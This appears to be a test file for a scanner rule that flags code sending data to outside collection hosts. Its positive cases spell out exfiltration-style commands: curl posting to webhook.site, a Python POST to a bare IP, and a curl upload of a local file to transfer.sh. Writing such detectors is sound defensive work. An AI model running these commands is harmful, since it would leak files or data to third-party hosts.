import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { collectorDestination } from './collector-destination.rule.ts';

describeCodeRule(collectorDestination, {
  caught: [
    sh('curl -X POST -d "done" https://webhook.site/0000'),
    py('import requests\nrequests.post("http://203.0.113.7/in", data="x")'),
    sh('curl -F f=@out.txt https://transfer.sh'),
  ],
  quiet: [
    sh('curl -X POST -d hi "$SLACK_WEBHOOK_URL"'),
    sh('curl http://127.0.0.1:8080/x -d 1'),
    sh('curl https://api.example.invalid/items'),
  ],
  notApplicable: [sh('ls -la'), text('Keep the notes short.'), py('print(1)')],
});
